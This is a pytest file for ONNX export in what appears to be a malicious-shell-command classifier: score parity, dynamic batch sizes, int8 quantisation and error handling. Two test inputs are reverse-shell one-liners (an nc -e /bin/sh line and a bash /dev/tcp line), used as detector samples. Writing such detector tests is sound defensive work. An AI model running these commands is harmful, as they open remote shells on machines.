"""ONNX export: parity with the trained model, dynamic shapes, int8, featurisation equal to the students'."""

from __future__ import annotations

import json

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from distilsec.bundle import load_model, read_manifest, update_manifest
from distilsec.cli.app import app
from distilsec.errors import BundleError, DistilsecError
from distilsec.serving.export import export_onnx
from distilsec.serving.runtime.features import HashedFeatures, byte_ids, clean_text
from distilsec.serving.runtime.onnx_model import OnnxModel
from distilsec.serving.scoring import ScoringModel
from distilsec.students._bytes import encode_bytes
from distilsec.students.base import _clean
from tests.conftest import make_texts

ODD_TEXTS = ["", " ", "a", "\x00\x00\x00", "é" * 300, "\ud800 lone surrogate", "x" * 5000, "\U0001f600 emoji", "\r\n\t"]


@pytest.mark.parametrize("kind", ["char_cnn", "hashed_linear"])
def test_parity_is_recorded_and_holds(exported, kind):
    bundle = exported[kind]
    manifest = read_manifest(bundle)
    parity = manifest["onnx"]["parity"]
    assert parity["fp32"]["ok"] and parity["fp32"]["n_decisions_differ"] == 0
    assert parity["fp32"]["max_abs_diff"] < 1e-5
    assert "int8" in parity and parity["int8"]["n"] == parity["fp32"]["n"]
    assert json.loads((bundle / "parity.json").read_text())["fp32"] == parity["fp32"]
    # re-check independently, on texts the export never saw, odd ones included
    texts = make_texts(300, seed=9)[0] + ODD_TEXTS
    native = load_model(bundle).predict_proba([_clean(t) for t in texts])
    onnx = OnnxModel(bundle).predict_proba(texts)
    assert onnx.shape == native.shape
    assert np.abs(onnx - native).max() < 1e-5
    assert np.allclose(onnx.sum(axis=1), 1.0, atol=1e-5)
    int8 = OnnxModel(bundle, precision="int8").predict_proba(texts)
    assert np.abs(int8 - native).max() < 0.05  # approximate, but close


@pytest.mark.parametrize("kind", ["char_cnn", "hashed_linear"])
def test_dynamic_batch_sizes_and_empty_input(exported, kind):
    model = OnnxModel(exported[kind])
    ref = model.predict_proba(ODD_TEXTS)
    for bs in (1, 2, 3, 7):
        assert np.allclose(model.predict_proba(ODD_TEXTS, batch_size=bs), ref, atol=1e-6)
    assert model.predict_proba([]).shape == (0, 2)
    with pytest.raises(DistilsecError, match="single string"):
        model.predict_proba("one string")


def test_char_cnn_graph_takes_any_length(exported):
    import onnxruntime as ort

    session = ort.InferenceSession(str(exported["char_cnn"] / "model.onnx"), providers=["CPUExecutionProvider"])
    for n, length in ((1, 1), (2, 5), (5, 64), (3, 500)):
        ids = np.random.default_rng(0).integers(0, 257, (n, length)).astype(np.int64)
        (proba,) = session.run(["proba"], {"ids": ids})
        assert proba.shape == (n, 2)


def test_trimmed_padding_is_exact_for_max_pooling(exported):
    """Padding to the longest text + 1 instead of max_len gives the same scores (see byte_ids' Notes)."""
    import onnxruntime as ort

    session = ort.InferenceSession(str(exported["char_cnn"] / "model.onnx"), providers=["CPUExecutionProvider"])
    texts = ["ls", "nc -e /bin/sh 10.0.0.1 4444", "y" * 64, "z" * 63, ""]
    full = session.run(["proba"], {"ids": byte_ids(texts, 64)})[0]
    trimmed = session.run(["proba"], {"ids": byte_ids(texts, 64, trim=True)})[0]
    assert byte_ids(texts[:2], 64, trim=True).shape[1] < 64
    assert np.abs(full - trimmed).max() < 1e-6


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(max_size=80), max_size=6), st.integers(1, 40))
def test_byte_ids_equal_the_students_encoding(texts, max_len):
    cleaned = [_clean(t) for t in texts]
    assert [clean_text(t) for t in texts] == cleaned
    expected = encode_bytes(cleaned, max_len)
    got = byte_ids(cleaned, max_len)
    assert np.array_equal(got, expected)
    trimmed = byte_ids(cleaned, max_len, trim=True)
    assert np.array_equal(trimmed, expected[:, : trimmed.shape[1]])
    assert not expected[:, trimmed.shape[1] :].any()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=60), min_size=1, max_size=5))
def test_hashed_features_equal_the_students_transform(texts):
    from distilsec.students import HashedLinearStudent

    for analyzer in ("char", "word"):
        student = HashedLinearStudent(n_features=2**10, ngram_range=(1, 3), max_chars=20, analyzer=analyzer)
        x = student.transform(texts).toarray()
        f = HashedFeatures(student.get_params())([_clean(t) for t in texts])
        dense = np.zeros_like(x)
        np.add.at(dense, (f["rows"], f["indices"]), f["values"])
        assert np.allclose(dense, x) and f["n_rows"][0] == len(texts)


def test_scoring_model_runtimes(exported):
    bundle = exported["char_cnn"]
    texts = ["ls -la", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
    auto, native = ScoringModel(bundle), ScoringModel(bundle, runtime="torch")
    assert auto.runtime == "onnx" and native.runtime == "native"
    assert ScoringModel(bundle, runtime="onnx-int8").runtime == "onnx-int8"
    s_auto, l_auto = auto.score_texts(texts)
    s_nat, l_nat = native.score_texts(texts)
    assert l_auto == l_nat and np.abs(s_auto - s_nat).max() < 1e-5
    with pytest.raises(DistilsecError, match="runtime must be"):
        ScoringModel(bundle, runtime="tensorflow")


def test_onnx_only_bundle_scores_without_weights(exported, tmp_path):
    texts = make_texts(50, seed=3)[0]
    result = export_onnx(exported["hashed_linear"], validation_texts=texts, out=tmp_path / "edge")
    edge = result.bundle
    assert sorted(p.name for p in edge.iterdir()) == ["manifest.json", "model.onnx", "parity.json"]
    s_edge, _ = ScoringModel(edge).score_texts(texts)
    s_ref, _ = ScoringModel(exported["hashed_linear"], runtime="native").score_texts(texts)
    assert np.abs(s_edge - s_ref).max() < 1e-5
    with pytest.raises(BundleError):
        ScoringModel(edge, runtime="native")  # no safetensors: the native model cannot load


def test_missing_onnx_file_is_a_clear_error(bundle_copy):
    bundle = bundle_copy("hashed_linear")
    (bundle / "model.int8.onnx").unlink()
    with pytest.raises(BundleError, match="distilsec export"):
        ScoringModel(bundle, runtime="onnx-int8")


def test_failed_parity_writes_nothing(bundle_copy, monkeypatch):
    """A graph that disagrees with the model must not be left where runtime=auto would pick it up."""
    bundle = bundle_copy("hashed_linear")
    from distilsec.serving.export import onnx as export_mod

    real = export_mod.hashed_linear_graph

    def wrong_graph(student, path):
        student.intercept_ = student.intercept_ + np.array([3.0, -3.0], dtype=np.float32)
        real(student, path)

    monkeypatch.setattr(export_mod, "hashed_linear_graph", wrong_graph)
    with pytest.raises(BundleError, match="parity check failed"):
        export_onnx(bundle, validation_texts=make_texts(40)[0])
    assert not (bundle / "model.onnx").exists()
    assert read_manifest(bundle).get("onnx") is None
    assert ScoringModel(bundle).runtime == "native"


def test_unsupported_type_is_refused(bundle_copy):
    bundle = bundle_copy("hashed_linear")
    m = json.loads((bundle / "manifest.json").read_text())
    m["type"] = "encoder.v1"
    (bundle / "manifest.json").write_text(json.dumps(m))
    with pytest.raises(BundleError, match="ONNX export supports"):
        export_onnx(bundle, validation_texts=["x"])


def test_cli_export_with_texts_file(bundle_copy, tmp_path):
    bundle = bundle_copy("hashed_linear")
    for f in ("model.onnx", "model.int8.onnx", "parity.json"):
        (bundle / f).unlink()
    texts = tmp_path / "val.jsonl"
    texts.write_text("\n".join(json.dumps({"text": t}) for t in make_texts(30)[0]) + "\n")
    res = CliRunner().invoke(app, ["export", str(bundle), "--texts", str(texts), "--int8"])
    assert res.exit_code == 0, res.output
    assert (bundle / "model.onnx").is_file() and (bundle / "model.int8.onnx").is_file()
    assert read_manifest(bundle)["onnx"]["parity"]["fp32"]["n"] == 30
    # outside a run folder and without --texts: a clear error, not a traceback
    res = CliRunner().invoke(app, ["export", str(bundle)])
    assert res.exit_code == 2 and "--texts" in res.output


class _FixedScores:
    """A stand-in ScoringModel that returns given scores (two classes, benign/malicious)."""

    def __init__(self, scores: list[float], threshold: float, runtime: str) -> None:
        self.s, self.threshold, self.runtime = np.asarray(scores, dtype=np.float64), threshold, runtime

    def score_batch(self, texts):
        s = self.s[: len(texts)]
        labels = ["malicious" if v >= self.threshold else "benign" for v in s]
        return s, labels, np.stack([1 - s, s], axis=1)


def test_boundary_flip_within_tolerance_is_reported_not_a_parity_failure():
    """Issue 11: a score on the threshold that moves by 3e-7 flips its decision: rounding, not a failure."""
    from distilsec.serving.export.parity import check_parity

    thr = 0.7310585786300049
    ref = _FixedScores([0.1, thr, 0.9], thr, "native")
    close = _FixedScores([0.1, thr - 2.68e-7, 0.9], thr, "onnx")
    p = check_parity(ref, close, ["a", "b", "c"], tolerance=1e-4)
    assert p["ok"] and p["n_decisions_differ"] == 1
    assert p["boundary_flips"] == [{"index": 1, "score": thr, "candidate_score": thr - 2.68e-7, "margin": 0.0}]
    far = _FixedScores([0.1, thr - 2e-3, 0.9], thr, "onnx")
    p = check_parity(ref, far, ["a", "b", "c"], tolerance=1e-4)
    assert not p["ok"] and p["n_decisions_differ"] == 1  # beyond the tolerance: still refused
    # int8 (no tolerance): decisions are all it is judged by
    assert not check_parity(ref, close, ["a", "b", "c"], tolerance=None)["ok"]


def test_export_succeeds_when_a_score_sits_within_1e_6_of_the_threshold(bundle_copy):
    """Issue 11: `distilsec export` refused the `make run` student over one decision flip at 2.68e-07."""
    bundle = bundle_copy("hashed_linear")
    texts = make_texts(400, seed=11)[0]
    s_native, _ = ScoringModel(bundle, runtime="native").score_texts(texts)
    s_onnx, _ = ScoringModel(bundle, runtime="onnx").score_texts(texts)
    diff = np.abs(s_native - s_onnx)
    i = int(diff.argmax())
    assert 0 < diff[i] < 1e-6  # float32 graph vs float64 softmax: rounding only
    threshold = (s_native[i] + s_onnx[i]) / 2  # strictly between the two: the decision must flip
    update_manifest(bundle, threshold=float(threshold))
    result = export_onnx(bundle, validation_texts=texts)
    p = result.parity["fp32"]
    assert result.ok and p["n_decisions_differ"] >= 1 and p["max_flip_margin"] < 1e-6
    assert any(f["index"] == i for f in p["boundary_flips"])
    assert read_manifest(bundle)["onnx"]["parity"]["fp32"]["n_decisions_differ"] == p["n_decisions_differ"]
    assert ScoringModel(bundle).runtime == "onnx"


def test_an_attack_tagger_is_refused_in_one_line_before_any_data_is_read(tiny_attack_bundle, tmp_path):
    # no --texts and no run folder around the bundle: the type check must come first, not the split rebuild
    res = CliRunner().invoke(app, ["export", str(tiny_attack_bundle), "--out", str(tmp_path / "x")])
    assert res.exit_code == 2
    assert "'attack_model.v1'" in res.output and "ONNX export supports" in res.output
    assert not (tmp_path / "x").exists()
